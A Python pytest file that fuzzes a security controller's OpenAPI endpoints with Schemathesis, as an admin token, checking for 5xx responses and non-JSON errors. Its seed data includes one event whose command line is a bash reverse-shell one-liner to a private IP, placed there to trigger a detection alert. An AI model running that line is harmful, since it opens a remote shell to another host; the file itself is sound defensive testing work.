"""Schemathesis against the controller's whole OpenAPI document, served by the real
``create_app`` over HTTPS with a fleet that has data in it (a host, events, an alert, a
command, a policy), as an admin API token: no generated request may get a 5xx, and every
error must be JSON.

The auth endpoints (users, tokens, sessions, audit) are fuzzed in
tests/controller_auth/test_errors_openapi.py, which restores the fuzzer's own admin between
cases; here they are skipped so the fuzzer cannot revoke the token it runs on.
"""

from __future__ import annotations

import sys
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings

sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "controller_core"))

from core_harness import Controller, wait_for

from backplane.messages import PROTOCOL_VERSION, Hello
from backplane.schema import Action, Tier, new_event

pytestmark = pytest.mark.timeout(240)

SKIP_PATHS = r"^/api/v1/(auth/|users|api-tokens|audit|stream)"
EXAMPLES = 25


def seed(controller: Controller) -> str:
    """A host with events, a reverse-shell alert, a queued command and a policy."""
    hooks = controller.ctx.hooks
    host = "fuzz-host-0001"
    hello = Hello(PROTOCOL_VERSION, "0.1.0", "fuzz-01", "Debian 12", "6.1", {}, [], -1)
    controller.call(hooks.on_hello(host, hello, "127.0.0.1"))
    events = []
    for i, cmd in enumerate(["ls -l /tmp", "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1"]):
        ev = new_event(Action.EXEC, host={"id": host, "name": "fuzz-01"}, tier=Tier.FALLBACK)
        ev["process"] = {
            "pid": 10 + i,
            "entity_id": f"e{i}",
            "executable": "/usr/bin/bash",
            "command_line": cmd,
            "args": cmd.split(),
        }
        events.append(ev)
    assert controller.call(hooks.commit_batch(host, 1, events, 0))
    controller.call(hooks.drained())
    store = controller.ctx.store
    wait_for(lambda: store.list_alerts(host_id=host), 10, "seed alert")
    store.queue_command(host, "kill", {"pid": 10}, "seed", "fuzz-seed", 3600.0)
    return host


def test_full_openapi_document_has_no_server_errors(controller: Controller) -> None:
    import schemathesis

    seed(controller)
    token = controller.api_token("admin")
    schema = schemathesis.openapi.from_url(
        f"{controller.url}/api/v1/openapi.json", verify=str(controller.pki.ca_path)
    )
    schema = schema.exclude(path_regex=SKIP_PATHS)
    failures: list[str] = []
    count = 0
    operations = 0
    for result in schema.get_all_operations():
        operation = result.ok()
        operations += 1

        @given(case=operation.as_strategy())
        @settings(
            max_examples=EXAMPLES,
            deadline=None,
            database=None,
            suppress_health_check=list(HealthCheck),
        )
        def run(case: Any) -> None:
            nonlocal count
            count += 1
            response = case.call(
                base_url=controller.url,
                headers={"Authorization": f"Bearer {token}"},
                verify=str(controller.pki.ca_path),
            )
            where = f"{case.method} {case.formatted_path}"
            if response.status_code >= 500:
                failures.append(f"{where}: {response.status_code} {response.text[:200]}")
            ctype = response.headers.get("content-type") or ""
            ctype = ctype[0] if isinstance(ctype, list) else ctype
            if response.status_code >= 400 and not ctype.startswith("application/json"):
                failures.append(f"{where}: {response.status_code} non-JSON error")

        run()
    assert operations >= 25
    assert count >= operations * 3
    assert failures == [], "\n".join(sorted(set(failures)))
